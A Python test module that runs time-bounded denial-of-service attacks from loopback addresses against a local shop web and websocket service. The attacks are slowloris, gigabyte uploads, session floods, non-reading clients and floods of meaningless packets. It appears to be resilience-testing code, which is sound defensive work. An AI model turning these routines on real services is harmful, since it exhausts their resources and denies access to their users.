"""The attacks, each in a process of its own: `python -m tests.attack.attacks NAME URL SECONDS`.

They come from loopback addresses of their own, as far as one machine has others: 127.0.0.66 and on. Each is bounded in
time and in what it opens, and says at its end what it did.
"""

import asyncio
import json
import random
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from typing import NamedTuple
from urllib.parse import urlsplit

import uvloop

ONE_ADDRESS = "127.0.0.66"
_MANY_ADDRESSES = tuple(f"127.0.0.{last}" for last in range(66, 96))
_SOCKET_PATH = "/websocket-service/"
_CONNECT = b"\x81\x82\0\0\0\x0040"
_STATUS_BYTES = 12

SLOW = 2_000
READERS = 500
UPLOAD_BYTES = 1 << 30
_FLOOD_AT_ONCE = 200
PACKETS_FROM = 100
_PACKETS_EACH_S = 0.02
# Client frames are masked (RFC 6455, section 5.3); with this mask they stay what they are.
_TINY = tuple(
    head + b"\0\0\0\0" + packet
    for head, packet in ((b"\x81\x81", b"3"), (b"\x81\x85", b"430[]"), (b"\x81\x81", b"6"), (b"\x89\x80", b""))
)


class Aim(NamedTuple):
    """Where it goes, for how long, and what has come of it so far."""

    host: str
    port: int
    until: float
    seen: Counter[str]

    @property
    def is_over(self) -> bool:
        """Whether it has to end."""
        return time.monotonic() > self.until

    async def open(self, address: str = ONE_ADDRESS, read_buffer: int | None = None) -> socket.socket:
        """Open a connection from one of the attacker's addresses."""
        made = socket.socket()
        made.settimeout(0)
        if read_buffer is not None:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, read_buffer)
        # Where it comes from is chosen with the connection: many share a port.
        made.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT of <linux/in.h>
        made.bind((address, 0))
        try:
            await asyncio.get_running_loop().sock_connect(made, (self.host, self.port))
        except OSError:
            made.close()
            raise
        self.seen["opened"] += 1
        return made


def _handshake(path: str, host: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


def _head(path: str, size: str) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n{size}\r\n\r\n".encode()


async def slow_loris(aim: Aim) -> None:
    """Hold connections by sending a byte of a request now and then: half of them a websocket's handshake."""
    requests = [
        _head("/products", "Content-Length: 60000") + b"{" + b" " * 100,
        _handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop"),
        b"GET /products HTTP/1.1\r\nHost: shop\r\nX-Slow: " + b"a" * 10_000,
        _handshake(f"{_SOCKET_PATH}raw", "shop"),
    ]

    async def hold(number: int) -> None:
        loop = asyncio.get_running_loop()
        request = requests[number % len(requests)]
        address = _MANY_ADDRESSES[number % len(_MANY_ADDRESSES)]
        while not aim.is_over:
            with suppress(OSError):
                connection = await aim.open(address)
                try:
                    # Never the end of it.
                    for byte in request[:-4]:
                        await loop.sock_sendall(connection, bytes([byte]))
                        await asyncio.sleep(random.uniform(1, 4))  # noqa: S311  # it is an attack
                        if aim.is_over:
                            return
                        with suppress(BlockingIOError):
                            if not connection.recv(1024):
                                break
                finally:
                    connection.close()
            aim.seen["cut off"] += 1
            await asyncio.sleep(0.2)

    await _together(hold, SLOW)


async def upload(aim: Aim) -> None:
    """Send a gigabyte where little is expected: as a body with and without a length, and as a message."""
    loop = asyncio.get_running_loop()
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    frame = b"\x01\xff" + (0x10000).to_bytes(8) + b"\0\0\0\0" + b"4" * 0x10000
    more = b"\x00" + frame[1:]
    shapes: list[tuple[bytes, bytes]] = [
        (_head("/products", "Transfer-Encoding: chunked"), chunk),
        (_head("/products/batch", f"Content-Length: {UPLOAD_BYTES}"), b" " * 0x10000),
        (_handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop"), more),
        (_head(f"{_SOCKET_PATH}?EIO=4&transport=polling", "Transfer-Encoding: chunked"), chunk),
    ]

    async def send(number: int) -> None:
        head, part = shapes[number % len(shapes)]
        while not aim.is_over:
            with suppress(OSError):
                connection = await aim.open()
                try:
                    await loop.sock_sendall(connection, head)
                    sent = 0
                    while sent < UPLOAD_BYTES and not aim.is_over:
                        await loop.sock_sendall(connection, part)
                        sent += len(part)
                        aim.seen["bytes"] += len(part)
                finally:
                    connection.close()
            aim.seen["cut off"] += 1
            await asyncio.sleep(0.05)

    await _together(send, 8)


async def flood(aim: Aim) -> None:
    """Open sessions as fast as one address can, by both transports, and leave them."""
    loop = asyncio.get_running_loop()
    polling = f"GET {_SOCKET_PATH}?EIO=4&transport=polling HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n".encode()
    requests = [polling, _handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop")]

    async def knock(number: int) -> None:
        held: list[socket.socket] = []
        while not aim.is_over:
            with suppress(OSError, TimeoutError):
                connection = await aim.open()
                held.append(connection)
                await loop.sock_sendall(connection, requests[number % 2])
                async with asyncio.timeout(5):
                    answer = await loop.sock_recv(connection, 1024)
                aim.seen[answer[9:_STATUS_BYTES].decode(errors="replace") or "closed"] += 1
            for connection in held[:-5]:
                connection.close()
            del held[:-5]
        for connection in held:
            connection.close()

    await _together(knock, _FLOOD_AT_ONCE)


async def readers(aim: Aim) -> None:
    """Connect, and never read: what is sent to them has to wait somewhere."""
    loop = asyncio.get_running_loop()
    handshake = _handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop")

    async def sit(number: int) -> None:
        while not aim.is_over:
            with suppress(OSError):
                connection = await aim.open(_MANY_ADDRESSES[number % len(_MANY_ADDRESSES)], read_buffer=2_048)
                try:
                    await loop.sock_sendall(connection, handshake)
                    await asyncio.sleep(0.5)
                    await loop.sock_sendall(connection, _CONNECT)
                    await asyncio.sleep(max(0.0, aim.until - time.monotonic()))
                finally:
                    connection.close()

    await _together(sit, READERS)


async def packets(aim: Aim) -> None:
    """Send thousands of packets that mean nothing, and come again when cut off; every other one as many as it may."""
    loop = asyncio.get_running_loop()
    handshake = _handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop")

    async def chatter(number: int) -> None:
        tiny = _TINY[number % len(_TINY)] * (2 if number % 2 else 2_000)
        while not aim.is_over:
            with suppress(OSError, TimeoutError):
                connection = await aim.open()
                try:
                    await loop.sock_sendall(connection, handshake)
                    async with asyncio.timeout(5):
                        answer = await loop.sock_recv(connection, 1024)
                    aim.seen[answer[9:_STATUS_BYTES].decode(errors="replace")] += 1
                    await loop.sock_sendall(connection, _CONNECT)
                    while not aim.is_over:
                        async with asyncio.timeout(5):
                            await loop.sock_sendall(connection, tiny)
                        aim.seen["bytes"] += len(tiny)
                        with suppress(BlockingIOError):
                            if not connection.recv(65_536):
                                break
                        await asyncio.sleep(_PACKETS_EACH_S)
                finally:
                    connection.close()
            aim.seen["cut off"] += 1
            await asyncio.sleep(0.2)

    await _together(chatter, PACKETS_FROM)


async def _together(one: Callable[[int], Awaitable[None]], count: int) -> None:
    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(_run(one, number))


async def _run(one: Callable[[int], Awaitable[None]], number: int) -> None:
    await one(number)


ATTACKS: Mapping[str, Callable[[Aim], Awaitable[None]]] = {
    "slow loris": slow_loris,
    "upload": upload,
    "flood": flood,
    "readers": readers,
    "packets": packets,
}


async def attack(name: str, url: str, seconds: float) -> None:
    """Attack, and say what came of it."""
    parts = urlsplit(url)
    aim = Aim(parts.hostname or "", parts.port or 80, time.monotonic() + seconds, Counter())
    await ATTACKS[name](aim)
    sys.stdout.write(json.dumps(aim.seen) + "\n")


if __name__ == "__main__":
    uvloop.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))
